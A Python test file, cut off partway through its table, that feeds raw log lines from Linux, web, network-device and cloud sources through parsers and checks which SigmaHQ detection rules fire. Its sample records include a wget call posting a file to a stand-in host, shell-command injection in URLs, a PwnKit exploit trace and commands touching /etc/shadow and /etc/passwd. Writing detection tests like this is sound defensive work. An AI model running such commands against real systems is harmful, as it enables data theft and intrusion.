# ruff: noqa: E501 - a table of raw log lines
"""Raw lines as their sources write them → parser → Sigma: SigmaHQ's rules outside Windows fire on what the parsers give.

Each case names every rule that must fire on its line; no other may. The lines follow the formats' own documentation; those marked
with a corpus are taken from it.
"""

from __future__ import annotations

import json
import re
import tarfile
import zipfile
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest

from collectors.parsers import PARSERS
from detectors.sigma.engine import SigmaEngine
from kernel.event import conform
from kernel.record import RawRecord

RECEIVED = 1_795_400_000_000_000  # 2026-11-23
_FOR_WINDOWS = re.compile(r"^\s+product:\s*['\"]?windows\b", re.MULTILINE)


@pytest.fixture(scope="module")
def engine(shared: Path, tmp_path_factory: pytest.TempPathFactory) -> SigmaEngine:
    """SigmaHQ's rules that are not for Windows."""
    folder = tmp_path_factory.mktemp("rules")
    with tarfile.open(shared / "corpora/sigma-rules.tar.gz") as archive:
        for number, member in enumerate(archive):
            file = archive.extractfile(member) if member.name.endswith(".yml") else None
            if file is None:
                continue
            text = file.read().decode()
            if _FOR_WINDOWS.search(text) is None:
                (folder / f"{number:04d}.yml").write_text(text)
    return SigmaEngine.load([folder])


def fired(engine: SigmaEngine, form: str, raw: str, origin: str = "test") -> list[str]:
    """Titles of the rules that fire on a raw record, sorted; once each."""
    titles: set[str] = set()
    for event in PARSERS[form](RawRecord("test", form, RECEIVED, origin, raw.encode())):
        conform(event, RECEIVED, {})
        titles |= {detection.rule_name for detection in engine.match(event)}
    return sorted(titles)


def _json(**fields: Any) -> str:
    return json.dumps(fields)


def _sysmon(number: int, **data: str) -> str:
    told = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    return (
        '<14>Nov 23 08:00:00 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{number}</EventID><Version>5</Version><Level>4</Level><Task>{number}</Task><Opcode>0</Opcode>"
        '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-23T08:00:00.123456000Z"/><EventRecordID>7</EventRecordID>'
        '<Correlation/><Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer>'
        f'<Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data>{told}</EventData></Event>'
    )


def _audit(kind: str, rest: str) -> str:
    return f"type={kind} msg=audit(1795400000.123:4242): {rest}"


def _syscall(number: int, comm: str, exe: str, more: str = "", a0: str = "0") -> str:
    return _audit(
        "SYSCALL",
        f"arch=c000003e syscall={number} success=yes exit=0 a0={a0} a1=0 a2=0 a3=0 items=2 ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=0 "
        f'suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="{comm}" exe="{exe}" key={more or "(null)"}',
    )


def _execve(*words: str) -> str:
    told = " ".join(f'a{number}="{word}"' for number, word in enumerate(words))
    return _audit("EXECVE", f"argc={len(words)} {told}")


def _web(request: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x86_64)", referrer: str = "-") -> str:
    return f'203.0.113.9 - - [23/Nov/2026:08:00:00 +0000] "{request}" {status} 512 "{referrer}" "{agent}"'


def _trail(name: str, source: str, **more: Any) -> str:
    base = {
        "eventVersion": "1.08",
        "eventTime": "2026-11-23T08:00:00Z",
        "awsRegion": "eu-west-1",
        "sourceIPAddress": "203.0.113.9",
        "userAgent": "aws-cli/2.15",
        "userIdentity": {"type": "IAMUser", "userName": "ann", "arn": "arn:aws:iam::1:user/ann"},
        "requestParameters": None,
        "responseElements": None,
    }
    return json.dumps(base | {"eventName": name, "eventSource": source} | more)


def _entra(category: str, operation: str, /, **properties: Any) -> str:
    return _json(
        time="2026-11-23T08:00:00Z",
        resourceId="/tenants/1/providers/Microsoft.aadiam",
        operationName=operation,
        category=category,
        tenantId="1",
        resultType=properties.pop("resultType", "0"),
        properties=properties,
    )


def _m365(workload: str, operation: str, **more: Any) -> str:
    return _json(CreationTime="2026-11-23T08:00:00", Workload=workload, Operation=operation, UserId="ann@example.com", **more)


def _google(service: str, method: str, **payload: Any) -> str:
    return _json(
        protoPayload={
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "serviceName": service,
            "methodName": method,
            "authenticationInfo": {"principalEmail": "ann@example.com"},
            "requestMetadata": {"callerIp": "203.0.113.9"},
            **payload,
        },
        logName="projects/p/logs/cloudaudit.googleapis.com%2Factivity",
        timestamp="2026-11-23T08:00:00Z",
        resource={"type": "audited_resource"},
    )


def _kube(verb: str, resource: str, code: int = 200, **more: Any) -> str:
    reference = {"resource": resource, "namespace": "default", "name": "x"} | more.pop("ref", {})
    return _json(
        kind="Event",
        apiVersion="audit.k8s.io/v1",
        level="Metadata",
        stage="ResponseComplete",
        requestURI="/api",
        verb=verb,
        user={"username": "ann"},
        sourceIPs=["203.0.113.9"],
        userAgent="kubectl/v1.30",
        objectRef=reference,
        responseStatus={"code": code},
        stageTimestamp="2026-11-23T08:00:00.000000Z",
        **more,
    )


def _zeek(log: str, **fields: Any) -> str:
    base = {
        "ts": 1795400000.5,
        "uid": "C1",
        "id.orig_h": "10.0.0.5",
        "id.orig_p": 50000,
        "id.resp_h": "203.0.113.9",
        "id.resp_p": 445,
    }
    return json.dumps(({"_path": log} if log else {}) | base | fields)


def _okta(kind: str) -> str:
    return _json(
        eventType=kind,
        published="2026-11-23T08:00:00.000Z",
        actor={"alternateId": "ann@example.com"},
        outcome={"result": "SUCCESS"},
    )


def _eve(kind: str, **section: Any) -> str:
    return _json(
        timestamp="2026-11-23T08:00:00.000000+0000",
        flow_id=1,
        event_type=kind,
        src_ip="10.0.0.5",
        src_port=50000,
        dest_ip="203.0.113.9",
        dest_port=80,
        proto="TCP",
        **{kind: section},
    )


def _canary(kind: int, port: int) -> str:
    return _json(
        dst_host="10.0.0.2",
        dst_port=port,
        local_time="2026-11-23 08:00:00.000000",
        logdata={"USERNAME": "a", "PASSWORD": "b"},
        logtype=kind,
        node_id="canary-1",
        src_host="203.0.113.9",
        src_port=40000,
        utc_time="2026-11-23 08:00:00.000000",
    )


def _endpoint(system: str, action: str, **more: Any) -> str:
    return _json(
        **{
            "@timestamp": "2026-11-23T08:00:00Z",
            "event": {"kind": "event", "dataset": f"endpoint.events.{action}"},
            "host": {"os": {"type": system}},
            **more,
        }
    )


Case = tuple[str, str, list[str]]
"""Format, raw record, rules that must fire. The key of CASES is the logsource and what is shown."""

CASES: dict[str, Case] = {
    # --- Linux: audit
    "auditd SYSCALL by number": ("auditd", _syscall(133, "mknod", "/usr/bin/mknod"), ["Special File Creation via Mknod Syscall"]),
    "auditd SYSCALL by its enriched name": ("auditd", _syscall(9999, "x", "/usr/bin/x") + "\x1dARCH=x86_64 SYSCALL=mknod AUID=\"ann\"", ["Special File Creation via Mknod Syscall"]),
    "auditd argument of a system call": ("auditd", _syscall(103, "x", "/usr/bin/x", a0="5"), ["Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall"]),
    "auditd comm": ("auditd", _syscall(59, "split", "/usr/bin/split"), ["Split A File Into Pieces - Linux"]),
    "auditd exe": ("auditd", _syscall(175, "insmod", "/usr/bin/kmod"), ["Loading of Kernel Module via Insmod"]),
    "auditd key": ("auditd", _syscall(59, "x", "/usr/bin/x", '"susp_activity"'), ["Suspicious C2 Activities"]),
    "auditd euid": ("auditd", _syscall(59, "id", "/usr/bin/id").replace("euid=0", "euid=33"), ["Webshell Remote Command Execution"]),
    "auditd PATH": ("auditd", _audit("PATH", 'item=1 name="/etc/ld.so.preload" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'), ["Code Injection by ld.so Preload", "Modification of ld.so.preload"]),
    "auditd EXECVE": ("auditd", _execve("getcap", "-r", "/"), ["Capabilities Discovery - Linux", "Linux Capabilities Discovery"]),
    "auditd EXECVE, other": ("auditd", _execve("chattr", "-i", "/etc/shadow"), ["Remove Immutable File Attribute", "Remove Immutable File Attribute - Auditd"]),
    "auditd EXECVE in hexadecimal": ("auditd", _audit("EXECVE", 'argc=3 a0="wget" a1=2D2D706F73742D66696C653D2F746D702F6120622E747874 a2="http://x.example/"'), ["Data Exfiltration with Wget"]),
    "auditd through syslog": ("syslog", "<85>Nov 23 08:00:00 web1 audispd: node=web1 " + _execve("chattr", "-i", "/etc/shadow"), ["Remove Immutable File Attribute", "Remove Immutable File Attribute - Auditd"]),
    "auditd SERVICE_STOP": ("auditd", _audit("SERVICE_STOP", "pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=firewalld comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"), ["Disable System Firewall"]),
    "file_event of auditd": ("auditd", _audit("PATH", 'item=1 name="/etc/doas.conf" inode=1 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE'), ["Linux Doas Conf File Creation"]),
    # --- Linux: syslog
    "sudo": ("syslog", "<86>Nov 23 08:00:00 web1 sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/usr/bin/id", ["Sudo Privilege Escalation CVE-2019-14287 - Builtin"]),
    "sudo, nothing wrong": ("syslog", "<86>Nov 23 08:00:00 web1 sudo:    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id", []),
    "sudo by its path": ("syslog", "<86>Nov 23 08:00:00 web1 /usr/bin/sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=#4294967295 ; COMMAND=/usr/bin/id", ["Sudo Privilege Escalation CVE-2019-14287 - Builtin"]),
    "sshd": ("syslog", "<38>Nov 23 08:00:00 web1 sshd[900]: error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]", ["SSHD Error Message CVE-2018-15473"]),
    "sshd since 9.8": ("syslog", "<38>1 2026-11-23T08:00:00Z web1 sshd-session 900 - - fatal: unexpected internal error", ["Suspicious OpenSSH Daemon Error"]),
    "sshd, not another program": ("syslog", "<38>Nov 23 08:00:00 web1 stunnel[900]: fatal: unexpected internal error", []),
    "cron": ("syslog", "<78>Nov 23 08:00:00 web1 crontab[900]: (bob) REPLACE (bob)", ["Modifying Crontab"]),
    "cron runs a command": ("syslog", "<78>Nov 23 08:00:00 web1 CRON[900]: (root) CMD (/usr/local/bin/backup)", []),
    "auth": ("syslog", "<84>Nov 23 08:00:00 web1 pkexec[900]: bob: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=GCONV_PATH=./pwnkit.so]", ["PwnKit Local Privilege Escalation"]),
    "clamav": ("syslog", "<134>Nov 23 08:00:00 web1 clamd[900]: /srv/www/up/a.php: Php.Webshell.Small-1(44d88612fea8a8f36de82e1278abb02f:68) FOUND", ["Antivirus - Relevant File Paths Alerts Signature", "Antivirus - Web Shell Detection Signature", "Relevant ClamAV Message"]),
    "antivirus": ("syslog", "<134>Nov 23 08:00:00 web1 clamd[900]: /srv/files/a.exe: Win.Tool.Mimikatz-1 FOUND", ["Antivirus - Hacktool Signature", "Antivirus - Password Dumper Signature"]),
    "vsftpd": ("syslog", "<30>Nov 23 08:00:00 ftp1 vsftpd[900]: Connection refused: too many sessions for this address.", ["Suspicious VSFTPD Error Messages"]),
    "guacamole": ("syslog", '<30>Nov 23 08:00:00 gw1 guacd[900]: User "@1234" joined connection "$5678" (2 users now present)', ["Guacamole Two Users Sharing Session Anomaly"]),
    "syslog": ("syslog", "<30>Nov 23 08:00:00 web1 iptables.init[900]: stopping iptables", ["Disabling Security Tools - Builtin"]),
    "linux, any log": ("syslog", "<13>Nov 23 08:00:00 web1 bob: ln -s -f /etc/passwd /tmp/x", ["Symlink Etc Passwd"]),
    "linux, history of a shell": ("text", "ln -s /etc/passwd /tmp/x", ["Symlink Etc Passwd"]),
    "database": ("syslog", "<134>Nov 23 08:00:00 db1 postgres[900]: [3-1] LOG:  statement: drop table users", ["Suspicious SQL Query"]),
    # --- Linux: Sysmon
    "process_creation of Sysmon": ("syslog", _sysmon(1, Image="/usr/bin/doas", CommandLine="doas sh", User="bob", ParentImage="/bin/bash"), ["Linux Doas Tool Execution"]),
    "process_creation of auditd": ("auditd", _execve("userdel", "bob"), ["User Has Been Deleted Via Userdel"]),
    "process_creation of auditd, whole path": ("auditd", _execve("/usr/sbin/groupdel", "ops"), ["Group Has Been Deleted Via Groupdel"]),
    "process_creation of an ECS agent": ("json", _endpoint("linux", "process", process={"executable": "/usr/bin/mkfifo", "command_line": "mkfifo /run/f"}), ["Named Pipe Created Via Mkfifo"]),
    "file_event of Sysmon": ("syslog", _sysmon(11, Image="/usr/bin/vi", TargetFilename="/etc/doas.conf"), ["Linux Doas Conf File Creation"]),
    "network_connection of Sysmon": ("syslog", _sysmon(3, Image="/bin/bash", User="bob", Protocol="tcp", Initiated="true", SourceIp="10.0.0.5", SourcePort="50000", DestinationIp="203.0.113.9", DestinationHostname="-", DestinationPort="8443"), ["Linux Reverse Shell Indicator"]),
    "network_connection of Sysmon, by name": ("syslog", _sysmon(3, Image="/usr/bin/x", User="bob", Protocol="tcp", Initiated="true", SourceIp="10.0.0.5", SourcePort="50000", DestinationIp="203.0.113.9", DestinationHostname="a.localto.net", DestinationPort="443"), ["Communication To LocaltoNet Tunneling Service Initiated - Linux"]),
    # --- macOS
    "macos process_creation": ("json", _endpoint("macos", "process", process={"executable": "/usr/bin/pbpaste", "command_line": "pbpaste"}), ["Clipboard Data Collection Via Pbpaste"]),
    "macos file_event": ("json", _endpoint("macos", "file", file={"path": "/Library/StartupItems/x.plist"}), ["Startup Item File Created - MacOS"]),
    # --- Web
    "webserver, Combined": ("web-access", _web("GET /x?doAs=`id` HTTP/1.1"), ["Apache Spark Shell Command Injection - Weblogs"]),
    "webserver, user agent": ("web-access", _web("GET / HTTP/1.1", agent="libredtail-http"), ["RedTail Cryptominer User-Agent"]),
    "webserver, keyword": ("web-access", _web("GET /.git/config HTTP/1.1", 404), ["Source Code Enumeration Detection by Keyword"]),
    "webserver through syslog": ("syslog", "<190>Nov 23 08:00:00 web1 nginx: " + _web("GET /SAAS/t/_/;/auth/login HTTP/1.1"), ["CVE-2022-31656 VMware Workspace ONE Access Auth Bypass"]),
    "webserver, IIS": ("web-access", "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n2026-11-23 08:00:00 10.0.0.2 GET /x doAs=`id` 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 15", ["Apache Spark Shell Command Injection - Weblogs"]),
    "webserver, Suricata": ("eve", _eve("http", hostname="w.example", url="/x?doAs=`id`", http_user_agent="Mozilla/5.0 (X11; Linux x86_64)", http_method="GET", status=200), ["Apache Spark Shell Command Injection - Weblogs"]),
    "webserver, nothing wrong": ("web-access", _web("GET /index.html HTTP/1.1"), []),
    "apache": ("web-access", "[Mon Nov 23 08:00:00.123456 2026] [core:notice] [pid 900:tid 1] AH00052: child pid 901 exit signal Segmentation fault (11)", ["Apache Segmentation Fault"]),
    "nginx": ("web-access", "2026/11/23 08:00:00 [alert] 900#900: worker process 901 exited on signal 6 (core dumped)", ["Nginx Core Dump"]),
    "proxy, Squid": ("web-access", "1795400000.123     90 10.0.0.5 TCP_MISS/200 1024 GET http://x.example/pwndrop/a - HIER_DIRECT/203.0.113.9 text/html", ["PwnDrp Access"]),
    "proxy, CONNECT": ("web-access", "1795400000.123     90 10.0.0.5 TCP_TUNNEL/200 1024 CONNECT api.telegram.org:443 - HIER_DIRECT/203.0.113.9 -", ["Telegram API Access"]),
    "proxy, Suricata": ("eve", _eve("http", hostname="x.example", url="/pwndrop/a", http_user_agent="Mozilla/5.0 (X11; Linux x86_64)", http_method="GET", status=200), ["PwnDrp Access"]),
    # --- DNS, firewall
    "dns, BIND": ("syslog", "<30>Nov 23 08:00:00 ns1 named[900]: client @0x7f 10.0.0.5#50000 (api.telegram.org): query: api.telegram.org IN A +E(0)K (10.0.0.2)", ["Telegram Bot API Request"]),
    "dns, dnsmasq": ("syslog", "<30>Nov 23 08:00:00 ns1 dnsmasq[900]: query[A] sfrclak.com from 10.0.0.5", ["Axios NPM Compromise Malicious C2 Domain DNS Query"]),
    "dns, Suricata": ("eve", _eve("dns", type="query", id=1, rrname="api.telegram.org", rrtype="A", tx_id=0), ["Telegram Bot API Request"]),
    "dns, Zeek": ("json", _zeek("dns", query="api.telegram.org", qtype_name="A", Z=0, rejected=False), ["Telegram Bot API Request"]),
    "firewall, netfilter": ("syslog", "<4>Nov 23 08:00:00 gw1 kernel: [1.2] [UFW ALLOW] IN=eth0 OUT= MAC= SRC=10.0.0.5 DST=10.0.0.9 LEN=60 TTL=63 PROTO=TCP SPT=50000 DPT=23 WINDOW=1 SYN", ["Cleartext Protocol Usage"]),
    "firewall, refused": ("syslog", "<4>Nov 23 08:00:00 gw1 kernel: [1.2] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=10.0.0.5 DST=10.0.0.9 LEN=60 TTL=63 PROTO=TCP SPT=50000 DPT=23 WINDOW=1 SYN", []),
    "firewall, by address": ("syslog", "<4>Nov 23 08:00:00 gw1 kernel: [1.2] [UFW BLOCK] IN=eth0 OUT= MAC= SRC=10.0.0.5 DST=69.42.98.86 LEN=60 TTL=63 PROTO=TCP SPT=50000 DPT=443 WINDOW=1 SYN", ["Equation Group C2 Communication"]),
    "firewall, FortiGate": ("syslog", '<189>date=2026-11-23 time=08:00:00 devname="FG1" devid="FG100" logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=10.0.0.5 srcport=50000 srcintf="port1" dstip=10.0.0.9 dstport=23 dstintf="port2" proto=6 action="accept" policyid=1 service="TELNET"', ["Cleartext Protocol Usage"]),
    "firewall, Cisco ASA": ("syslog", "<166>Nov 23 08:00:00 asa1 : %ASA-6-302013: Built outbound TCP connection 12 for outside:203.0.113.9/23 (203.0.113.9/23) to inside:10.0.0.5/21 (10.0.0.5/21)", ["Cleartext Protocol Usage"]),
    "firewall, Juniper": ("syslog", "<14>Nov 23 08:00:00 srx1 RT_FLOW: RT_FLOW_SESSION_CREATE: session created 10.0.0.5/50000->203.0.113.9/23 junos-telnet 198.51.100.1/2000->203.0.113.9/23 r1 None 6 P1 TRUST INTERNET 6316 N/A(N/A) ge-0/0/0", ["Cleartext Protocol Usage"]),
    # --- Network devices
    "cisco aaa": ("syslog", "172.16.5.10 6705: Feb 17 13:40:03.673: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no access-session port-control", ["Cisco Dot1x Disabled"]),  # corpora/sigma-regression
    "cisco aaa, logs": ("syslog", "<189>22191: core1: 022546: Nov 23 08:00:00.123 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:bob  logged command:clear logging", ["Cisco Clear Logs"]),
    "cisco aaa, ASA": ("syslog", "<165>Nov 23 08:00:00 asa1 : %ASA-5-111008: User 'enable_15' executed the 'clear logging buffer' command.", ["Cisco Clear Logs"]),
    "cisco aaa, NX-OS": ("syslog", "<189>Nov 23 08:00:00 nx1 %AAA-6-AAA_ACCOUNTING_MESSAGE: update:203.0.113.9@pts/0:admin:clear logging logfile (SUCCESS)", ["Cisco Clear Logs", "Cisco Local Accounts"]),
    "cisco, no command": ("syslog", "<189>Nov 23 08:00:00 core1 : %SYS-6-LOGGINGHOST_STARTSTOP: Logging to host 10.0.0.9 port 514 started, format 5424", []),
    "cisco syslog": ("syslog", "<189>29: *Nov 23 08:00:00.123: %SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_tac_admin on vty1", ["Exploitation Indicators Of CVE-2023-20198"]),
    "cisco bgp": ("syslog", "<187>Nov 23 08:00:00 core1 %IP-TCP-3-BADAUTH: Invalid MD5 digest from 10.0.0.5:11004 to 10.0.0.2:179", ["Cisco BGP Authentication Failures"]),
    "cisco ldp": ("syslog", "<187>Nov 23 08:00:00 core1 RP/0/RP0/CPU0: %IP-TCP-3-SOCKET_TCP_PACKET_MD5_AUTHEN_FAIL : LDP session from 10.0.0.5:646", ["Cisco LDP Authentication Failures"]),
    "cisco duo": ("json", _json(event_type="authentication", reason="bypass_user", result="success", txid="t1", isotimestamp="2026-11-23T08:00:00+00:00", user={"name": "bob"}, access_device={"ip": "203.0.113.9"}), ["Cisco Duo Successful MFA Authentication Via Bypass Code"]),
    "huawei bgp": ("syslog", "<187>Nov 23 2026 08:00:00 R1 %%01BGP/3/BGP_AUTH_FAILED(l)[12]:BGP session authentication failed. (PeerSession=10.0.0.5:179-10.0.0.2:50000)", ["Huawei BGP Authentication Failures"]),
    "juniper bgp": ("syslog", "<6>Nov 23 08:00:00 mx1 /kernel: tcp_auth_ok: Packet from 10.0.0.5:50000 to 10.0.0.2:179 missing MD5 digest", ["Juniper BGP Missing MD5"]),
    "fortigate event": ("syslog", '<189>date=2026-11-23 time=08:00:00 devname="FG1" devid="FG100" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(203.0.113.9)" action="Add" cfgtid=1 cfgpath="system.admin" cfgobj="eve" msg="Add system.admin eve"', ["FortiGate - New Administrator Account Created"]),
    "fortigate event, edit": ("syslog", '<189>Nov 23 08:00:00 fg1 date=2026-11-23 time=08:00:00 devname="FG1" devid="FG100" logid="0100044547" type="event" subtype="system" level="information" user="admin" ui="GUI(203.0.113.9)" action="Edit" cfgpath="user.group" cfgobj="vpn" msg="Edit user.group vpn"', ["FortiGate - User Group Modified"]),
    "fortios sslvpnd": ("syslog", '<189>date=2026-11-23 time=08:00:00 devname="FG1" devid="FG100" logid="0100032002" type="event" subtype="system" level="alert" msg="file changed: /data/lib/libips.bak"', ["Exploitation Indicator Of CVE-2022-42475"]),
    "paloalto globalprotect": (
        "json",
        '{"level":"error","task":"1393405-22","time":"2026-11-23T08:00:00.1-08:00","message":"failed to unmarshal session(../../opt/x) map , EOF"}',
        ["Potential CVE-2024-3400 Exploitation - Palo Alto GlobalProtect OS Command Injection"],
    ),
    # --- Zeek
    "zeek dce_rpc": ("json", _zeek("dce_rpc", named_pipe="lsarpc", endpoint="efsrpc", operation="EfsRpcOpenFileRaw"), ["Potential PetitPotam Attack Via EFS RPC Calls"]),
    "zeek dns": ("json", _zeek("", query="seed.nkn.org", qtype_name="A", Z=0, proto="udp"), ["New Kind of Network (NKN) Detection"]),
    "zeek http": ("json", _zeek("http", method="GET", host="x.example", uri="/a", user_agent="katz-ontop", status_code=200), ["Katz Stealer Suspicious User-Agent"]),
    "zeek http, address": ("json", _zeek("http", method="PUT", host="x.example", uri="/a", user_agent="Microsoft-WebDAV-MiniRedir/10", status_code=201), ["WebDav Put Request"]),
    "zeek kerberos": ("json", _zeek("", request_type="TGS", client="bob/EXAMPLE", service="cifs/fs1", cipher="rc4-hmac", success=True), ["Kerberos Network Traffic RC4 Ticket Encryption"]),
    "zeek rdp": ("json", _zeek("rdp", **{"id.orig_h": "203.0.113.7", "id.resp_h": "10.0.0.2", "id.resp_p": 3389, "cookie": "bob", "security_protocol": "HYBRID"}), ["Publicly Accessible RDP Service"]),
    "zeek rdp, inside": ("json", _zeek("rdp", **{"id.resp_p": 3389, "cookie": "bob"}), []),
    "zeek rdp, inside, IPv6": ("json", _zeek("rdp", **{"id.orig_h": "fd00::5", "id.resp_h": "fd00::9", "id.resp_p": 3389, "cookie": "bob"}), []),
    "zeek smb_files": ("json", _zeek("", action="SMB::FILE_OPEN", path="\\\\fs1\\IPC$", name="spoolss", size=0), ["SMB Spoolss Name Piped Usage"]),
    "zeek x509": ("json", _json(ts=1795400000.5, id="F1", **{"certificate.version": 3, "certificate.serial": "8BB00EE", "certificate.subject": "CN=x"}), ["Default Cobalt Strike Certificate"]),
    # --- Clouds
    "aws cloudtrail": ("json", _trail("ImportKeyPair", "ec2.amazonaws.com"), ["AWS Key Pair Import Activity"]),
    "aws cloudtrail, words in the request": ("json", _trail("PutBucketVersioning", "s3.amazonaws.com", requestParameters={"VersioningConfiguration": {"Status": "Suspended"}}), ["AWS S3 Bucket Versioning Disable"]),
    "aws cloudtrail, login": ("json", json.dumps({"Records": [json.loads(_trail("ConsoleLogin", "signin.amazonaws.com", errorMessage="Failed authentication", responseElements={"ConsoleLogin": "Failure"}))]}), ["AWS ConsoleLogin Failed Authentication"]),
    "azure activitylogs": ("json", _json(time="2026-11-23T08:00:00Z", resourceId="/SUBSCRIPTIONS/1", operationName="MICROSOFT.PORTAL/CONSOLES/WRITE", category="Administrative", resultType="Success", callerIpAddress="203.0.113.9", identity={}), ["Azure New CloudShell Created"]),
    "azure activitylogs, as the API gives it": ("json", _json(eventTimestamp="2026-11-23T08:00:00Z", resourceId="/subscriptions/1", operationName={"value": "Microsoft.Authorization/elevateAccess/action", "localizedValue": "Elevate"}, category={"value": "Administrative"}, caller="ann@example.com"), ["Azure Subscription Permission Elevation Via ActivityLogs"]),
    "azure auditlogs": ("json", _entra("AuditLogs", "Add service principal", category="ApplicationManagement"), ["Azure Service Principal Created"]),
    "azure auditlogs, message": ("json", _entra("AuditLogs", "Disable PIM Alert", category="RoleManagement"), ["PIM Alert Setting Changes To Disabled"]),
    "azure auditlogs, consent": ("json", _entra("AuditLogs", "Consent to application", category="ApplicationManagement", targetResources=[{"displayName": "App", "modifiedProperties": [{"displayName": "ConsentContext.IsAdminConsent", "newValue": "false"}]}]), ["End User Consent"]),
    "azure signinlogs": ("json", _entra("SignInLogs", "Sign-in activity", resultType="50053", userAgent="Mozilla/5.0"), ["Account Lockout"]),
    "azure signinlogs, table": ("json", _json(TimeGenerated="2026-11-23T08:00:00Z", Type="SigninLogs", Category="SignInLogs", OperationName="Sign-in activity", ResultType="53003", UserPrincipalName="ann@example.com", TenantId="1"), ["User Access Blocked by Azure Conditional Access"]),
    "azure riskdetection": ("json", _entra("UserRiskEvents", "User Risk Detection", riskEventType="passwordSpray", riskLevel="high"), ["Password Spray Activity"]),
    "azure pim": ("json", _entra("UserRiskEvents", "PIM alert", riskEventType="invalidLicenseAlertIncident"), ["Invalid PIM License"]),
    "gcp.audit": ("json", _google("dlp.googleapis.com", "projects.content.reidentify"), ["Google Cloud Re-identifies Sensitive Information"]),
    "gcp.audit, list": ("json", _google("storage.googleapis.com", "storage.buckets.list"), ["Google Cloud Storage Buckets Enumeration"]),
    "google_workspace.admin": ("json", _google("admin.googleapis.com", "google.admin.AdminService.removePrivilege", metadata={"event": [{"eventName": "REMOVE_PRIVILEGE", "eventType": "DELEGATED_ADMIN_SETTINGS"}]}), ["Google Workspace Role Privilege Deleted"]),
    "google_workspace.login": ("json", _google("login.googleapis.com", "google.login.LoginService.govAttackWarning", metadata={"event": [{"eventName": "gov_attack_warning"}]}), ["Google Workspace Government Attack Warning"]),
    "m365 audit": ("json", _m365("AzureActiveDirectory", "Disable Strong Authentication.", ResultStatus="Success"), ["Disabling Multi Factor Authentication"]),
    "m365 audit, parameters": ("json", _m365("Exchange", "New-InboxRule", ResultStatus="True", Parameters=[{"Name": "DeleteMessage", "Value": "True"}]), ["Inbox Rules Creation Or Update Activity in O365"]),
    "m365 exchange": ("json", _m365("Exchange", "Add-FederatedDomain", ResultStatus="True"), ["New Federated Domain Added", "New Federated Domain Added - Exchange"]),
    "m365 threat_detection": ("json", _m365("SecurityComplianceCenter", "AlertTriggered", Name="Activity from suspicious IP addresses", Status="Active"), ["Activity from Suspicious IP Addresses"]),
    "m365 threat_management": ("json", _m365("SecurityComplianceCenter", "AlertTriggered", Name="Impossible travel activity", Status="Active"), ["Microsoft 365 - Impossible Travel Activity"]),
    "okta": ("json", _okta("user.lifecycle.create"), ["New Okta User Created"]),
    "okta, token": ("json", _okta("system.api_token.revoke"), ["Okta API Token Revoked"]),
    "onelogin": ("json", _json(id=1, created_at="2026-11-23T08:00:00Z", account_id=5, event_type_id=3, actor_user_name="Ann", user_name="Bob", ipaddr="203.0.113.9"), ["OneLogin User Assumed Another User"]),
    "github audit": ("json", _json(**{"@timestamp": 1795400000000}, action="repo.pages_public", actor="ann", org="o", repo="o/r", created_at=1795400000000), ["GitHub Repository Pages Site Changed to Public"]),
    "github audit, member": ("json", _json(**{"@timestamp": 1795400000000}, action="org.add_member", actor="ann", org="o", user="bob", created_at=1795400000000), ["New Github Organization Member Added"]),
    "bitbucket audit": ("json", _json(timestamp="2026-11-23T08:00:00.000Z", author={"name": "bob", "type": "NORMAL"}, auditType={"area": "USER_MANAGEMENT", "category": "Authentication", "action": "User login failed", "level": "ADVANCED"}, source="203.0.113.9"), ["Bitbucket User Login Failure"]),
    "kubernetes audit": ("json", _kube("get", "pods", 403), ["Kubernetes Unauthorized or Unauthenticated Access"]),
    "kubernetes audit, group": ("json", _kube("create", "cronjobs", 201, ref={"apiGroup": "batch"}), ["Kubernetes CronJob/Job Modification"]),
    "kubernetes application": ("json", _kube("list", "secrets"), ["Kubernetes Secrets Enumeration"]),
    "kubernetes application, host path": ("json", _kube("create", "pods", 201, requestObject={"spec": {"volumes": [{"name": "h", "hostPath": {"path": "/"}}], "containers": [{"name": "c"}]}}), ["Container With A hostPath Mount Created"]),
    "opencanary": ("json", _canary(2000, 21), ["OpenCanary - FTP Login Attempt"]),
    "opencanary through syslog": ("syslog", "<14>Nov 23 08:00:00 canary opencanaryd: " + _canary(3001, 80), ["OpenCanary - HTTP POST Login Attempt"]),
    "aws cloudtrail, outcome": ("json", _trail("DeleteSAMLProvider", "iam.amazonaws.com"), ["AWS SAML Provider Deletion Activity"]),
    "aws cloudtrail, no error": ("json", _trail("DeleteBucket", "s3.amazonaws.com"), ["AWS Bucket Deleted"]),
